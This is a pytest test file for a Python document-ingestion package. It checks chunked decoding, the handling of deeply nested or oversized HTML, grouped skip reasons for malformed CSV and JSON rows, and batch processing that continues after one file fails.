        "HTML page too complex to extract its text: 40,002 elements and attributes, over the "
        "cap of 10,000 per page (max_html_elements); to raise it"
    )
    assert "NATOJP_MAX_HTML_ELEMENTS" in reason


def _read_in_chunks(monkeypatch: pytest.MonkeyPatch, chunk: int) -> None:
    """Decode every input chunk by chunk, in chunks of ``chunk`` bytes: the chunk size is
    patched in every module of natojp.ingest that holds it."""
    monkeypatch.setattr(decode, "_WHOLE_BYTES", 0)
    for info in pkgutil.iter_modules(natojp.ingest.__path__):
        module = importlib.import_module(f"natojp.ingest.{info.name}")
        if hasattr(module, "_CHUNK_BYTES"):
            monkeypatch.setattr(module, "_CHUNK_BYTES", chunk)


def test_long_text_read_in_chunks_keeps_only_the_start(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "\U0001f600 Drone talks\r\n\r\n" + "Officials met in Brussels.\r\n" * 3_000
    data = text.encode()
    config = IngestConfig(max_article_chars=1_000)
    whole = read_uploads([("long.txt", data), ("long.md", data)], config)
    _read_in_chunks(monkeypatch, 64)  # decode in chunks of 64 bytes
    chunked = read_uploads([("long.txt", data), ("long.md", data)], config)
    assert chunked == whole
    assert whole.documents[0].text == text.replace("\r\n", "\n")[: len(whole.documents[0].text)]
    assert whole.skipped[0].reason.startswith(
        f"article 'long' truncated: {len(text) - 3_002:,} characters"
    )


@pytest.mark.parametrize("chunk", [2, 7 * 2, 1024])
def test_every_fixture_reads_the_same_in_small_chunks(
    chunk: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = [(n, (HOSTILE / n).read_bytes()) for n in FILES]
    whole = read_uploads(files)
    _read_in_chunks(monkeypatch, chunk)
    assert read_uploads(files) == whole


# ------------------------------------------------------------------ deeply nested HTML


def test_deeply_nested_html_is_read_by_the_fallback_parser() -> None:
    (doc,) = [d for d in upload("deep-nesting.html").documents if d.id == "deep-nesting"]
    assert doc.text.split("\n") == [
        "Drone talks open",
        "Ministers from NATO and Japan agreed on Tuesday to deepen cooperation on drones, "
        "space and cyber defence, officials said in Brussels.",
        "The talks will continue in Tokyo next month, when both sides expect to sign a "
        "framework agreement on joint production.",
    ]
    assert doc.title == "Drone talks open" and doc.format == "html"
    assert doc.notes == (
        "its markup is nested 1,003 elements deep, deeper than the limit of 256 of the HTML "
        "parser that extracts article text; its text was taken from its paragraphs and "
        "headings by a simpler parser, without removing boilerplate or reading metadata "
        "other than the title",
    )


def test_deeply_nested_html_without_paragraphs_says_why() -> None:
    page = b"<html><body>" + b"<div>" * 5_000 + b"<script>x()</script>" + b"</div>" * 5_000
    ((_, _, reason),) = skips(read_uploads([("deep.html", page)]))
    assert reason == (
        "no article text found in this HTML page: its markup is nested 5,003 elements deep, "
        "deeper than the limit of 256 of the HTML parser that extracts article text, and it "
        "has no paragraph text outside scripts and styles"
    )


# -------------------------------------------------------------- grouped skip reasons


def test_rows_skipped_for_the_same_reason_are_listed_once() -> None:
    csv_rows = "id,text\n" + "".join(
        f"{i},\n" if i % 3 else f"{i},story {i}\n" for i in range(1, 10_001)
    )
    jsonl = "\n".join(['{"text": "ok"}', "[]", "{}", "[1]", "7", "no", "[2]", "{bad", "no"]) + "\n"
    items = json.dumps([{"text": "a"}, 1, 2, {"text": ""}, 3, {"text": "b"}])
    result = read_uploads(
        [("many.csv", csv_rows.encode()), ("f.jsonl", jsonl.encode()), ("l.json", items.encode())]
    )
    assert len(result.documents) == 3_333 + 1 + 2
    assert skips(result) == [
        ("many.csv", 2, "rows 1, 2, 4 and 6,664 more: empty text in column 'text'"),
        ("f.jsonl", 2, "lines 2, 4 and 7: a JSON list, not an object"),
        ("f.jsonl", 3, "line 3: no text (no text key; its keys: none)"),
        ("f.jsonl", 5, "line 5 holds a JSON number, not an object"),
        ("f.jsonl", 6, "lines 6 and 9: invalid JSON (Expecting value)"),
        (
            "f.jsonl",
            8,
            "invalid JSON on line 8, column 2: Expecting property name enclosed in double quotes",
        ),
        ("l.json", None, "items 2, 3 and 5: a JSON number, not an object"),
        ("l.json", None, "item 4: no text under key 'text'"),
    ]


# ----------------------------------------------------- one file cannot stop the batch


def test_an_unexpected_error_in_one_file_is_a_skip_and_the_batch_goes_on(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    def boom(*args: object) -> None:
        raise RuntimeError("reader crashed\non hostile input")

    monkeypatch.setattr(formats, "_read_markdown", boom)
    reason = "unexpected error reading this file: RuntimeError: reader crashed on hostile input"
    archive = _zip({"a/notes.md": b"# Notes", "a/ok.txt": ARTICLE.encode()})
    files = [("x.md", b"# X\n\ntext"), ("pack.zip", archive), (GOOD, GOOD_TEXT)]
    result = read_uploads(files)
    assert [d.id for d in result.documents] == ["ok", "good"]
    assert skips(result) == [("x.md", None, reason), ("pack.zip!a/notes.md", None, reason)]
    for name, data in files:
        (tmp_path / name).write_bytes(data)
    result = read_paths([tmp_path])
    assert [d.id for d in result.documents] == ["good", "pack/ok"]
    assert [s.reason for s in result.skipped] == [reason, reason]
